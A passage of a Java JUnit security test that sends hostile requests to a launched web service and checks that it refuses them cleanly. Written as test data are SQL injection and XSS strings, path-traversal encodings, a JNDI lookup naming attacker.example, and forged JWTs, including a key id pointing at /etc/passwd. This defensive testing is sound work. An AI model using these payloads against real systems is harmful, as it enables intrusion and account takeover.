package io.flotilla.launcher;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicContainer.dynamicContainer;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import com.jayway.jsonpath.JsonPath;
import io.flotilla.testsupport.ClientAt;
import io.flotilla.testsupport.Http;
import io.flotilla.testsupport.Http.Answer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.PrivateKey;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicNode;
import org.junit.jupiter.api.function.Executable;

/**
 * Rude clients against the launched system, through the gateway over real HTTP: a table of hostile
 * inputs by class. Each answer must have the expected status (a 4xx, or the ordinary answer where
 * the input is fair data), be problem+json where it is an error, show no stack trace, class name or
 * HTML, and have written nothing it should not; then a bystander's ordinary request to the same
 * service must still succeed. The last test prints a line of counts, which the README quotes.
 *
 * <p>Each input comes from a loopback address of its own (127.1.x.y; the gateway limits every
 * address but 127.0.0.1 and ::1): the login limit (10 a minute) and the registration limit (10 an
 * hour) would otherwise answer 429 before the input is looked at. The rate limits and the login
 * throttle have tests of their own, where many requests come from one address on purpose.
 */
final class HostileClients {

  private static final String PROBLEM = "application/problem+json";
  private static final String JSON = "application/json";
  private static final String USERS = "/api/v1/users";
  private static final String LOGIN = "/api/v1/auth/login";
  private static final String TWEETS = "/api/v1/tweets/";
  private static final String SEARCH = "/api/v1/search/?keyword=";
  private static final String CORRECT = "correct horse";

  /** What no answer may show: stack traces, class and package names, a server's own pages. */
  private static final Pattern LEAK =
      Pattern.compile(
          "Exception\\b|\\bat [\\w$.]+\\(\\w+\\.java|Caused by|\\bjava\\.(lang|io|util|net)\\."
              + "|org\\.springframework|io\\.flotilla|reactor\\.|jakarta\\.|org\\.h2|SQLState"
              + "|Whitelabel|Apache Tomcat|Netty");

  /**
   * One hostile request: its class, a name, the request's bytes, the statuses it may get, the
   * content type of the answer, what must hold afterwards, and the service it goes to (the gateway
   * but for the private endpoints, which are asked on their service's own port).
   */
  record Case(
      String kind,
      String name,
      byte[] request,
      Set<Integer> statuses,
      String type,
      Check check,
      String service) {

    Case(
        String kind, String name, byte[] request, Set<Integer> statuses, String type, Check check) {
      this(kind, name, request, statuses, type, check, "gateway");
    }
  }

  /** A check after the answer, e.g. that nothing was written. */
  interface Check {
    void verify(Answer answer) throws Exception;
  }

  private static final Check NOTHING_MORE = answer -> {};

  /** Counts per class: inputs tried, failures, statuses seen. */
  private static final class Tally {
    int inputs;
    int failures;
    final Set<Integer> statuses = new TreeSet<>();
  }

  private final LaunchedSystem system;
  private final int port;
  private final Http localhost;
  private final ClientAt bystander;
  private final Map<String, Tally> tallies = new LinkedHashMap<>();
  private final AtomicInteger addresses = new AtomicInteger();

  private final String owner;
  private final String ownerToken;
  private final String intruder;
  private final String intruderToken;
  private final long publicTweet;
  private final long privateTweet;
  private final String privateWord;

  private HostileClients(LaunchedSystem system) {
    this.system = system;
    this.port = system.port("gateway");
    this.localhost = Http.port(port);
    this.bystander = ClientAt.address("127.1.255.254", port);
    String run = Long.toString(System.nanoTime(), 36);
    this.owner = "owner_" + run;
    this.ownerToken = register(owner);
    this.intruder = "intruder_" + run;
    this.intruderToken = register(intruder);
    this.privateWord = "quokka" + run.replaceAll("[0-9]", "");
    this.publicTweet = tweet("A public tweet of the owner", false);
    this.privateTweet = tweet("Private " + privateWord + " notes", true);
  }

  /** The whole suite: slow clients first, a container per class of inputs, then the summary. */
  static Stream<DynamicNode> against(LaunchedSystem system) throws Exception {
    HostileClients suite = new HostileClients(system);
    SlowClients slow = suite.new SlowClients();
    List<DynamicNode> nodes = new ArrayList<>();
    nodes.add(dynamicTest("slow clients start", slow::start));
    nodes.add(suite.container(suite.oversize()));
    nodes.add(suite.container(suite.controlCharacters()));
    nodes.add(suite.container(suite.badJson()));
    nodes.add(suite.container(suite.pathsAndEncodings()));
    nodes.add(suite.container(suite.injection()));
    nodes.add(suite.container(suite.tokens()));
    nodes.add(suite.container(suite.acceptAndContentType()));
    nodes.add(suite.container(suite.notPublic()));
    nodes.add(suite.container(suite.methodsAndHeaders()));
    nodes.add(suite.container(suite.othersData()));
    nodes.add(suite.container(suite.securityHeaders()));
    nodes.add(suite.special("spraying", 3, suite::sprayingDoesNotLockTheOwnerOut));
    nodes.add(suite.special("lockout", 3, suite::nobodySpendsTheOwnersAllowance));
    nodes.add(dynamicTest("slow clients are cut off", slow::awaitClosed));
    nodes.add(dynamicTest("summary", suite::summary));
    return nodes.stream();
  }

  private DynamicNode container(Table table) {
    return dynamicContainer(
        table.kind + " (" + table.cases.size() + ")",
        table.cases.stream().map(hostile -> dynamicTest(hostile.name(), () -> run(hostile))));
  }

  private DynamicNode special(String kind, int inputs, Executable test) {
    return dynamicTest(
        kind,
        () -> {
          Tally tally = tally(kind);
          tally.inputs += inputs;
          try {
            test.execute();
          } catch (Throwable failed) {
            tally.failures++;
            throw failed;
          }
        });
  }

  private Tally tally(String kind) {
    return tallies.computeIfAbsent(kind, name -> new Tally());
  }

  private void run(Case hostile) throws Throwable {
    Tally tally = tally(hostile.kind());
    tally.inputs++;
    try {
      Answer answer =
          ClientAt.address(nextAddress(), system.port(hostile.service()))
              .exchange(hostile.request());
      tally.statuses.add(answer.status());
      String what = hostile.name() + " → " + answer;
      assertThat(answer.status()).as(what).isIn(hostile.statuses());
      assertThat(answer.contentType()).as(what).isEqualTo(hostile.type());
      assertThat(answer.body()).as(what).doesNotContainPattern(LEAK);
      if (!hostile.type().startsWith("text/html")) {
        assertThat(answer.body()).as(what).doesNotStartWith("<");
      }
      if (hostile.type().equals(PROBLEM)) {
        assertThat(answer.body()).as(what).contains("\"status\":" + answer.status());
        assertThat(answer.header("X-Content-Type-Options")).as(what).isEqualTo("nosniff");
      }
      hostile.check().verify(answer);
      assertStillAnswers(hostile.request());
    } catch (Throwable failed) {
      tally.failures++;
      throw failed;
    }
  }

  /** 127.1.0.1, 127.1.0.2, ...: a client of its own for each input. */
  private String nextAddress() {
    int n = addresses.getAndIncrement();
    return "127.1." + (n / 250) + "." + (n % 250 + 1);
  }

  /** A bystander's ordinary request to the service that the hostile one was meant for. */
  private void assertStillAnswers(byte[] hostile) {
    String target = new String(hostile, StandardCharsets.ISO_8859_1).split(" ", 3)[1];
    String ordinary = "/health";
    if (target.startsWith(USERS) || target.startsWith(LOGIN)) {
      ordinary = USERS + "/" + owner;
    } else if (target.startsWith(TWEETS)) {
      ordinary = TWEETS + publicTweet;
    } else if (target.startsWith("/api/v1/search")) {
      ordinary = SEARCH + "public";
    } else if (target.startsWith("/restaurant")) {
      ordinary = "/restaurant";
    } else if (target.matches("/(factorial|fibonacci|ackermann).*")) {
      ordinary = "/ping";
    }
    Answer answer = bystander.send("GET", ordinary, null, Map.of());
    assertThat(answer.status()).as("afterwards, GET %s: %s", ordinary, answer).isEqualTo(200);
  }

  private void summary() throws IOException {
    int inputs = tallies.values().stream().mapToInt(tally -> tally.inputs).sum();
    int failures = tallies.values().stream().mapToInt(tally -> tally.failures).sum();
    List<String> classes = new ArrayList<>();
    tallies.forEach((kind, tally) ->
        classes.add(
            kind
                + " "
                + tally.inputs
                + (tally.statuses.isEmpty()
                    ? ""
                    : " ("
                        + String.join("/", tally.statuses.stream().map(String::valueOf).toList())
                        + ")")));
    String line =
        "hostile clients: %d inputs, %d failures — %s"
            .formatted(inputs, failures, String.join(", ", classes));
    System.out.println(line);
    assertThat(failures).as(line).isZero();
    // The README says how many inputs the suite tries: it must stay true.
    assertThat(Files.readString(Path.of("..", "README.md")))
        .as("README.md quotes the count")
        .contains(inputs + " hostile inputs");
  }

  // ------------------------------------------------------------------------ the table

  /** The cases of one class, written one a line. */
  private final class Table {

    final String kind;
    final List<Case> cases = new ArrayList<>();

    Table(String kind) {
      this.kind = kind;
    }

    /** Refused with this status and a problem+json body. */
    void refuse(int status, String name, byte[] request) {
      refuse(Set.of(status), name, request, NOTHING_MORE);
    }

    void refuse(int status, String name, byte[] request, Check then) {
      refuse(Set.of(status), name, request, then);
    }

    void refuse(Set<Integer> statuses, String name, byte[] request) {
      refuse(statuses, name, request, NOTHING_MORE);
    }

    void refuse(Set<Integer> statuses, String name, byte[] request, Check then) {
      cases.add(new Case(kind, name, request, statuses, PROBLEM, then));
    }

    /** Refused 401 with a problem+json body, straight from the service's own port. */
    void refuseAt(String service, String name, byte[] request, Check then) {
      cases.add(new Case(kind, name, request, Set.of(401), PROBLEM, then, service));
    }

    /** Math keeps the seeds' error bodies: JSON that names the problem. */
    void refuseAsSeeds(String name, byte[] request) {
      cases.add(
          new Case(
              kind,
              name,
              request,
              Set.of(400),
              JSON,
              answer -> assertThat(answer.body()).contains("\"error\":")));
    }

    /** Fair data after all: the ordinary JSON answer, and this must hold. */
    void answer(int status, String name, byte[] request, Check then) {
      cases.add(new Case(kind, name, request, Set.of(status), JSON, then));
    }
  }

  private Table oversize() {
    var t = new Table("oversize");
    t.refuse(
        413, "body of 64 KB + 1", post(USERS, "{\"username\":\"" + "a".repeat(65_536) + "\"}"));
    t.refuse(413, "body of 8 MB", post(LOGIN, "x".repeat(8 << 20)));
    t.refuse(413, "chunked body of 1 MB", chunked(TWEETS, text("a".repeat(1 << 20))));
    t.refuse(400, "tweet of 281 characters", asOwner("POST", TWEETS, text("a".repeat(281))));
    t.refuse(400, "tweet of 281 emoji", asOwner("POST", TWEETS, text("😀".repeat(281))));
    t.refuse(400, "tweet of 60,000 characters", asOwner("POST", TWEETS, text("b".repeat(60_000))));
    t.refuse(400, "tag of 51 characters", asOwner("POST", TWEETS, tweet("hi", "t".repeat(51))));
    t.refuse(400, "username of 31 characters", post(USERS, registration("u".repeat(31))));
    t.refuse(400, "username of 30,000 characters", post(USERS, registration("u".repeat(30_000))));
    t.refuse(400, "password of 73 bytes", post(USERS, registration("longpw", "€".repeat(25), "A")));
    t.refuse(
        400,
        "first name of 101 characters",
        post(USERS, registration("longn", CORRECT, "N".repeat(101))));
    t.refuse(
        400,
        "email of 255 characters",
        post(USERS, registration("longmail").replace("longmail@", "e".repeat(243) + "@")));
    t.refuse(400, "login name of 31 characters", post(LOGIN, login("u".repeat(31), CORRECT)));
    t.refuse(400, "login password of 73 bytes", post(LOGIN, login(owner, "p".repeat(73))));
    t.refuse(400, "profile name of 31 characters", get(USERS + "/" + "u".repeat(31)));
    t.refuse(400, "timeline name of 31 characters", get(TWEETS + "u".repeat(31)));
    t.refuse(400, "keyword of 201 characters", get(SEARCH + "k".repeat(201)));
    t.refuse(400, "search tag of 101 characters", get("/api/v1/search/?tag=" + "t".repeat(101)));
    t.refuse(400, "page 10,001", get(TWEETS + "?page=10001"));
    t.refuse(400, "page size 101", get(TWEETS + "?size=101"));
    t.refuse(400, "page size past a long", get(TWEETS + "?size=99999999999999999999"));
    t.refuse(400, "search past the window", get(SEARCH + "a&page=9999&size=100"));
    t.refuse(400, "tweet id past a long", get(TWEETS + "99999999999999999999"));
    t.refuseAsSeeds("factorial of 100,001", get("/factorial?n=100001"));
    t.refuseAsSeeds("fibonacci of 1,000,001", get("/fibonacci?n=1000001"));
    t.refuseAsSeeds("ackermann of (4, 3)", get("/ackermann?m=4&n=3"));
    t.refuseAsSeeds("factorial of a 400-digit n", get("/factorial/" + "9".repeat(400) + "/"));
    t.refuse(400, "JSON nested 10,000 deep", post(LOGIN, "[".repeat(10_000) + "]".repeat(10_000)));
    t.refuse(414, "request line of 9 KB", get(SEARCH + "k".repeat(9_000)));
    t.refuse(414, "path of 9 KB", get(TWEETS + "1".repeat(9_000)));
    t.refuse(
        431,
        "header of 9 KB",
        request("GET", TWEETS, List.of("X-Filler: " + "f".repeat(9_000)), null));
    List<String> many =
        IntStream.range(0, 200).mapToObj(i -> "X-Filler-" + i + ": " + "f".repeat(40)).toList();
    t.refuse(431, "200 headers", request("GET", TWEETS, many, null));
    t.refuse(
        401,
        "bearer token of 7 KB",
        request("GET", USERS + "/me", List.of(bearer("t".repeat(7_000))), null));
    return t;
  }

  private Table controlCharacters() {
    var t = new Table("control characters");
    // Written as JSON escapes: the services see the characters themselves.
    Map<String, String> names =
        Map.of(
            "a NUL", "ab\\u0000c",
            "a right-to-left override", "\\u202eadmin",
            "a zero-width space", "adm\\u200bin",
            "a line break", "owner\\r\\nX",
            "a bell", "bell\\u0007");
    names.forEach((what, name) -> {
      t.refuse(400, "username with " + what, post(USERS, registration(name)));
      t.refuse(400, "login name with " + what, post(LOGIN, login(name, CORRECT)));
    });
    for (String name :
        List.of("\\u200b\\u200b", "   ", "\\ufeff", "\\u0007bell", "a\\nb", "\\u00ad", "\\u2028")) {
      String username = "ctl_" + Integer.toHexString(name.hashCode());
      t.refuse(400, "first name " + name, post(USERS, registration(username, CORRECT, name)));
    }
    for (String text :
        List.of(
            "\\u200b",
            "\\u0000",
            " \\t\\n ",
            "a\\u0007b",
            "\\u2028\\u2029",
            "\\u00ad\\u200d",
            "\\ud800",
            "an \\u001b[31m escape")) {
      t.refuse(400, "tweet " + text, asOwner("POST", TWEETS, text(text)));
    }
    t.refuse(400, "tag with a NUL", asOwner("POST", TWEETS, tweet("hi", "mu\\u0000sic")));
    t.refuse(400, "profile name with a zero-width space", get(USERS + "/ow%E2%80%8Bner"));
    t.refuse(400, "profile name with a line break", get(USERS + "/owner%0D%0ASet-Cookie:x"));
    t.refuse(
        Set.of(400, 404),
        "timeline name with a right-to-left override",
        get(TWEETS + "%E2%80%AEowner"));
    t.refuse(400, "keyword with a NUL", get(SEARCH + "a%00b"));
    t.refuse(400, "keyword with a line break", get(SEARCH + "a%0D%0Ab"));
    t.refuse(400, "search tag with an escape", get("/api/v1/search/?tag=%1B%5B31m"));
    // Like a keyword of punctuation alone: no word to look for, so nothing is found.
    t.answer(200, "keyword of zero-width spaces", get(SEARCH + "%E2%80%8B%E2%80%8B"), body("[]"));
    byte[] notUtf8 = {
      '{', '"', 'u', 's', 'e', 'r', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, '(', '"', '}'
    };
    t.refuse(400, "a body that is not UTF-8", post(LOGIN, notUtf8));
    return t;
  }

  private Table badJson() {
    var t = new Table("bad JSON");
    List<String> bodies =
        List.of(
            "",
            "{",
            "[]",
            "null",
            "\"text\"",
            "42",
            "{\"text\":\"a\"} trailing",
            "{\"text\":\"a\",}",
            "{'text':'a'}",
            "{\"text\":\"a\"/* note */}",
            "{\"text\":NaN}",
            "{\"text\":[\"a\"]}",
            "{\"text\":{\"a\":1}}",
            "{\"text\":42}",
            "{\"text\":\"a\",\"private\":\"yes\"}",
            "{\"text\":\"a\",\"private\":1e999999}",
            "{\"text\":\"a\",\"username\":\"someone\"}",
            "{\"text\":\"a\",\"id\":1}",
            "{\"text\":\"a\",\"created\":\"1970-01-01T00:00:00Z\"}",
            "{\"text\":\"a\",\"private\":" + "9".repeat(1_000) + "}");
    for (String body : bodies) {
      String name = body.length() > 60 ? body.substring(0, 60) + "..." : body;
      t.refuse(400, "tweet " + (body.isEmpty() ? "(empty)" : name), asOwner("POST", TWEETS, body));
    }
    t.refuse(
        400, "a number for a username", post(USERS, registration("x").replace("\"x\"", "123")));
    t.refuse(
        400,
        "an extra admin field",
        post(USERS, registration("extra").replace("}", ",\"admin\":true}")));
    t.refuse(400, "login as an array", post(LOGIN, "[\"owner\",\"correct horse\"]"));
    t.refuse(
        400,
        "an object for a password",
        post(LOGIN, "{\"username\":\"owner\",\"password\":{\"$ne\":null}}"));
    String fields =
        String.join(",", IntStream.range(0, 5_000).mapToObj(i -> "\"f" + i + "\":1").toList());
    t.refuse(400, "5,000 unknown fields", post(LOGIN, "{" + fields + "}"));
    // Jackson reads UTF-16 JSON too: this is the login of nobody.
    t.refuse(
        401,
        "a UTF-16 body",
        post(LOGIN, login("nobody", CORRECT).getBytes(StandardCharsets.UTF_16)));
    return t;
  }

  private Table pathsAndEncodings() {
    var t = new Table("paths and encodings");
    for (String target :
        List.of(
            "/api/v1/tweets/..%2F..%2F..%2Finternal/v1/changes",
            "/api/v1/tweets/%2e%2e/%2e%2e/%2e%2e/internal/v1/changes",
            "/api/v1/tweets/..;/..;/..;/internal/v1/changes",
            "/api/v1/tweets/%252e%252e%252f%252e%252e%252finternal",
            "/api/v1/tweets/..%5C..%5Cinternal",
            "/api/v1/tweets/%EF%BC%8E%EF%BC%8E%EF%BC%8Finternal",
            "/api/v1/tweets/1;jsessionid=x",
            "/api/v1/tweets/%00",
            "/api/v1/tweets/1%20OR%201=1",
            "/api/v1/tweets/0x10",
            "/api/v1/tweets/1e3",
            "/api/v1/tweets/-1",
            "/api/v1/tweets/%",
            "/api/v1/tweets/%zz",
            "/api/v1/tweets/<script>",
            "/api/v1/tweets/a b",
            "/api/v1/users/..%2Fme",
            "/api/v1/users/%2e%2e",
            "/api/v1/users/owner%00",
            "/api/v1/users/admin%27%20OR%20%271%27=%271",
            "/api/v1/search/..%2F..%2Factuator%2Fhealth",
            "/restaurant/..%2F..%2Ffaults",
            "/restaurant/%2e%2e%2f%2e%2e%2ffaults",
            "/restaurant/..%252F..%252Ffaults",
            "/restaurant/x%00",
            "/restaurant/%2e%2e",
            "/restaurant/%C0%AE%C0%AE%C0%AF",
            "/portal/..%2Factuator%2Fhealth",
            "/portal/%2e%2e/actuator/health",
            "/factorial/..%2F..%2Factuator/")) {
      t.refuse(Set.of(400, 404), target, get(target));
    }
    return t;
  }

  private Table injection() {
    var t = new Table("injection");
    for (String name :
        List.of(
            "admin'--",
            "a' OR '1'='1",
            "x\\\"; DROP TABLE users; --",
            "<script>x</script>",
            "${jndi:ldap://x/a}")) {
      t.refuse(400, "registering " + name, post(USERS, registration(name)));
      t.refuse(400, "logging in as " + name, post(LOGIN, login(name, "x")));
    }
    t.refuse(401, "the owner with an injected password", post(LOGIN, login(owner, "' OR '1'='1")));
    for (String keyword :
        List.of(
            "' OR 1=1 --",
            "*:*",
            "text:* OR private:true",
            "\") OR (\"a\"=\"a",
            "<img src=x onerror=alert(1)>")) {
      t.answer(
          200,
          "searching " + keyword,
          get(SEARCH + Http.encode(keyword)),
          answer -> assertThat(answer.body()).startsWith("[").doesNotContain(privateWord));
    }
    // Fair text: kept exactly, and given back as JSON data, never run or interpreted.
    for (String text :
        List.of(
            "<script>alert(document.cookie)</script>",
            "'); DROP TABLE tweets; --",
            "${jndi:ldap://attacker.example/a}",
            "{{7*7}} #{7*7} ${7*7}",
            "\\\"},\\\"private\\\":false,\\\"x\\\":{\\\"")) {
      String stored = JsonPath.read(text(text), "$.text");
      t.answer(
          201,
          "tweeting " + text,
          asOwner("POST", TWEETS, text(text)),
          answer -> {
            Answer read = localhost.get(TWEETS + JsonPath.read(answer.body(), "$.id"));
            assertThat(read.contentType()).isEqualTo(JSON);
            assertThat(JsonPath.<String>read(read.body(), "$.text")).isEqualTo(stored);
          });
    }
    return t;
  }

  private Table tokens() throws Exception {
    var t = new Table("tokens");
    long now = Instant.now().getEpochSecond();
    PrivateKey real = Jwts.signingKey(system.dataDir());
    PrivateKey other = Jwts.anotherKey();
    String[] parts = ownerToken.split("\\.");
    String keyId = JsonPath.read(Jwts.decoded(parts[0]), "$.kid");
    String header = Jwts.rs256Header(keyId);
    String claims = Jwts.claims(owner, now - 60, now + 3600, "flotilla-users", true);
    String intruders =
        Jwts.decoded(parts[1]).replace("\"sub\":\"" + owner, "\"sub\":\"" + intruder);
    Map<String, String> forged = new LinkedHashMap<>();
    forged.put("alg none", Jwts.signed("{\"alg\":\"none\",\"typ\":\"JWT\"}", claims, null));
    forged.put(
        "alg none, no last dot",
        Jwts.signed("{\"alg\":\"none\"}", claims, null).replaceAll("\\.$", ""));
    forged.put("HS256 keyed with the key id", Jwts.hs256(claims, keyId));
    forged.put("another key, same key id", Jwts.signed(header, claims, other));
    forged.put("another key, no key id", Jwts.signed("{\"alg\":\"RS256\"}", claims, other));
    forged.put(
        "another key, a key set URL",
        Jwts.signed("{\"alg\":\"RS256\",\"jku\":\"http://127.0.0.1:1/k\"}", claims, other));
    forged.put(
        "a key id that is a path",
        Jwts.signed(Jwts.rs256Header("../../../../etc/passwd"), claims, other));
    forged.put(
        "a key id that is SQL", Jwts.signed(Jwts.rs256Header("x' UNION SELECT 'k"), claims, other));
    forged.put(
        "expired an hour ago",
        Jwts.signed(
            header, Jwts.claims(owner, now - 7200, now - 3600, "flotilla-users", true), real));
    forged.put(
        "valid only from tomorrow",
        Jwts.signed(header, claims.replace("}", ",\"nbf\":" + (now + 86_400) + "}"), real));
    forged.put(
        "another issuer",
        Jwts.signed(header, Jwts.claims(owner, now, now + 3600, "attacker", true), real));
    forged.put(
        "the owner's with another name", parts[0] + "." + Jwts.base64(intruders) + "." + parts[2]);
    forged.put(
        "the owner's, signature cut short",
        parts[0] + "." + parts[1] + "." + parts[2].substring(0, 20));
    forged.put("the owner's, no signature", parts[0] + "." + parts[1] + ".");
    forged.put("three dots", "a.b.c");
    forged.put("not base64", "%%%.###.$$$");
    Map<String, String> authorizations = new LinkedHashMap<>();
    forged.forEach((what, token) -> authorizations.put(what, bearer(token)));
    authorizations.put("an empty bearer", "Authorization: Bearer ");
    authorizations.put("two bearer tokens", bearer(ownerToken + ", Bearer " + intruderToken));
    String basic =
        Base64.getEncoder()
            .encodeToString((owner + ":" + CORRECT).getBytes(StandardCharsets.UTF_8));
    authorizations.put("the owner's password as Basic", "Authorization: Basic " + basic);
    String marker = "forged " + Long.toString(System.nanoTime(), 36);
    byte[] write = text(marker).getBytes(StandardCharsets.UTF_8);
    authorizations.forEach((what, authorization) -> {
      t.refuse(
          401,
          "writing with " + what,
          request("POST", TWEETS, List.of(authorization, JSON_BODY), write));
      t.refuse(
          401,
          "own profile with " + what,
          request("GET", USERS + "/me", List.of(authorization), null));
    });
    // A token without the account claim names someone, but no account: it may not write.
    String unowned =
        Jwts.signed(header, Jwts.claims(owner, now, now + 3600, "flotilla-users", false), real);
    t.refuse(
        401,
        "writing with no account in the token",
        request("POST", TWEETS, List.of(bearer(unowned), JSON_BODY), write));
    t.answer(
        200,
        "nothing was written with any of them",
        get(TWEETS + owner + "?size=100"),
        answer -> assertThat(answer.body()).doesNotContain(marker));
    return t;
  }

  private Table acceptAndContentType() {
    var t = new Table("Accept and Content-Type");
    for (String accept :
        List.of("text/html", "application/xml", "text/plain", "image/png", "text/event-stream")) {
      t.refuse(
          406,
          "timeline, Accept " + accept,
          request("GET", TWEETS, List.of("Accept: " + accept), null));
      t.refuse(
          406,
          "search, Accept " + accept,
          request("GET", SEARCH + "public", List.of("Accept: " + accept), null));
    }
    // Decided before anything is written: each must leave no trace.
    for (String accept : List.of("text/html", "application/xml", "text/plain")) {
      List<String> unacceptable = List.of("Accept: " + accept, JSON_BODY);
      String name = "acc" + Long.toString(System.nanoTime(), 36);
      t.refuse(
          406,
          "registration, Accept " + accept,
          request("POST", USERS, unacceptable, bytes(registration(name))),
          answer ->
              assertThat(localhost.get(USERS + "/" + name).status())
                  .as("no account")
                  .isEqualTo(404));
      String text = "Accepted " + name;
      t.refuse(
          406,
          "tweet, Accept " + accept,
          as(ownerToken, "POST", TWEETS, text(text), accept),
          answer ->
              assertThat(localhost.get(TWEETS + owner + "?size=100").body()).doesNotContain(text));
      t.refuse(
          406,
          "edit, Accept " + accept,
          as(ownerToken, "PUT", TWEETS + publicTweet, text(text), accept),
          unchanged());
      t.refuse(
          406,
          "delete, Accept " + accept,
          as(ownerToken, "DELETE", TWEETS + publicTweet, null, accept),
          unchanged());
      t.refuse(
          406,
          "login, Accept " + accept,
          request("POST", LOGIN, unacceptable, bytes(login(owner, CORRECT))),
          answer -> assertThat(answer.body()).doesNotContain("access_token"));
    }
    // Errors are problem+json whatever Accept says.
    t.refuse(
        404,
        "no such path, Accept text/html",
        request("GET", "/nothing/here", List.of("Accept: text/html"), null));
    t.refuse(
        401,
        "no token, Accept text/html",
        request("GET", USERS + "/me", List.of("Accept: text/html"), null));
    t.refuse(
        Set.of(400, 406),
        "bad page, Accept application/xml",
        request("GET", TWEETS + "?page=-1", List.of("Accept: application/xml"), null));
    t.refuse(
        Set.of(404, 406),
        "no such menu, Accept text/html",
        request("GET", "/restaurant/nowhere", List.of("Accept: text/html"), null));
    for (String type :
        List.of(
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "text/html",
            "application/cbor")) {
      String name = "ct" + Long.toString(System.nanoTime(), 36);
      t.refuse(
          415,
          "registration, Content-Type " + type,
          request("POST", USERS, List.of("Content-Type: " + type), bytes(registration(name))),
          answer ->
              assertThat(localhost.get(USERS + "/" + name).status())
                  .as("no account")
                  .isEqualTo(404));
    }
    String untyped = "untyped " + Long.toString(System.nanoTime(), 36);
    t.refuse(
        415,
        "tweet without Content-Type",
        request("POST", TWEETS, List.of(bearer(ownerToken)), bytes(text(untyped))),
        answer ->
            assertThat(localhost.get(TWEETS + owner + "?size=100").body()).doesNotContain(untyped));
    t.refuse(
        415,
        "login, Content-Type text/plain",
        request("POST", LOGIN, List.of("Content-Type: text/plain"), bytes(login(owner, CORRECT))));
    return t;
  }

  private Table notPublic() {
    var t = new Table("not public");
    for (String target :
        List.of(
            "/internal/v1/changes",
            "/internal/v1/changes?after=0&wait=30",
            "/.well-known/jwks.json",
            "/actuator",
            "/actuator/health",
            "/actuator/prometheus",
            "/actuator/env",
            "/actuator/heapdump",
            "/actuator/threaddump",
            "/actuator/faults",
            "/portal/actuator/health",
            "/portal/hardware/",
            "/hardware/",
            "/hardware/1",
            "/faults",
            "//actuator/health",
            "/api/v1/tweets/../../actuator/health",
            "/api/v1/tweets/../../internal/v1/changes",
            "/ping/../actuator/env")) {
      t.refuse(Set.of(404, 400), "GET " + target, get(target));
    }
    t.refuse(
        404, "POST /actuator/shutdown", request("POST", "/actuator/shutdown", List.of(), null));
    t.refuse(404, "POST /hardware/", post("/hardware/", "{\"provider\":\"x\",\"name\":\"y\"}"));
    t.refuse(404, "DELETE /hardware/1", request("DELETE", "/hardware/1", List.of(), null));
    t.refuse(
        404,
        "POST /actuator/faults",
        request("POST", "/actuator/faults", List.of(JSON_BODY), bytes("{\"outage\":true}")));
    withoutAServiceCredential(t);
    return t;
  }

  /**
   * Straight to the private endpoints on their services' own ports (tweets' change feed, hardware's
   * writes), with no service token or a false one: 401, and nothing written.
   */
  private void withoutAServiceCredential(Table t) {
    long later = Instant.now().plus(Duration.ofMinutes(5)).getEpochSecond();
    String guessed =
        Jwts.hs256(
            "{\"alg\":\"HS256\"}",
            Jwts.serviceClaims("search", "tweets", later),
            "a guessed service secret, 32 bytes or more");
    String unsigned =
        Jwts.signed("{\"alg\":\"none\"}", Jwts.serviceClaims("search", "tweets", later), null);
    String feed = "/internal/v1/changes?after=0";
    Check noPrivateTweet = answer -> assertThat(answer.body()).doesNotContain(privateWord);
    t.refuseAt("tweets", "the feed, no token", get(feed), noPrivateTweet);
    t.refuseAt(
        "tweets",
        "the feed, a user's token",
        as(ownerToken, "GET", feed, null, JSON),
        noPrivateTweet);
    t.refuseAt(
        "tweets",
        "the feed, HS256 with a guessed secret",
        as(guessed, "GET", feed, null, JSON),
        noPrivateTweet);
    t.refuseAt(
        "tweets", "the feed, alg none", as(unsigned, "GET", feed, null, JSON), noPrivateTweet);
    String row = "{\"provider\":\"Hostile\",\"name\":\"implant\"}";
    Check noRow =
        answer ->
            assertThat(Http.port(system.port("hardware")).get("/hardware/").body())
                .doesNotContain("Hostile");
    Check rowOneKept =
        answer ->
            assertThat(Http.port(system.port("hardware")).get("/hardware/1").status())
                .isEqualTo(200);
    t.refuseAt("hardware", "POST /hardware/, no token", post("/hardware/", row), noRow);
    t.refuseAt(
        "hardware",
        "POST /hardware/, a user's token",
        as(ownerToken, "POST", "/hardware/", row, JSON),
        noRow);
    t.refuseAt(
        "hardware",
        "PUT /hardware/1, no token",
        request("PUT", "/hardware/1", List.of(JSON_BODY), bytes(row)),
        noRow);
    t.refuseAt(
        "hardware",
        "DELETE /hardware/1, no token",
        request("DELETE", "/hardware/1", List.of(), null),
        rowOneKept);
    t.refuseAt(
        "hardware",
        "DELETE /hardware/1, a guessed token for tweets",
        as(guessed, "DELETE", "/hardware/1", null, JSON),
        rowOneKept);
  }

  private Table methodsAndHeaders() {
    var t = new Table("methods and headers");
    String tweet = TWEETS + publicTweet;
    t.refuse(405, "TRACE", request("TRACE", TWEETS, List.of(), null));
    t.refuse(Set.of(400, 405), "a made-up method", request("FOO", TWEETS, List.of(), null));
    t.refuse(405, "DELETE every tweet", as(ownerToken, "DELETE", TWEETS, null, JSON));
    t.refuse(
        Set.of(401, 405),
        "PUT a profile",
        request(
            "PUT",
            USERS + "/" + owner,
            List.of(JSON_BODY),
            bytes("{\"email\":\"x@example.com\"}")));
    t.answer(
        200,
        "a GET that says it is a DELETE",
        request("GET", tweet, List.of("X-HTTP-Method-Override: DELETE", bearer(ownerToken)), null),
        unchanged());
    t.answer(
        200,
        "a request id of 2,000 characters",
        request("GET", tweet, List.of("X-Request-Id: " + "r".repeat(2_000)), null),
        answer -> assertThat(answer.header("X-Request-Id")).hasSizeLessThan(100));
    t.answer(
        200,
        "a broken traceparent",
        request("GET", tweet, List.of("traceparent: 00-zz-zz-zz"), null),
        NOTHING_MORE);
    t.answer(
        200,
        "a Host of another site",
